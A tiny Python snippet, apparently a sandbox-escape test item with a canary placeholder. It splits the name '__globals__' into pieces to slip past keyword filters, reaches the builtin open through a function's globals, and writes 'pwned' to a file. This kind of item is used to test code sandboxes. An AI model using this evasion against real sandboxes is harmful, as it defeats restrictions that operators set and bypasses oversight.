# getattr with computed names to reach a function's globals
def f():
    pass
g = getattr(f, "__glo" + "bals__")
g["__builtins__"]["open"]("{CANARY}", "w").write("pwned")
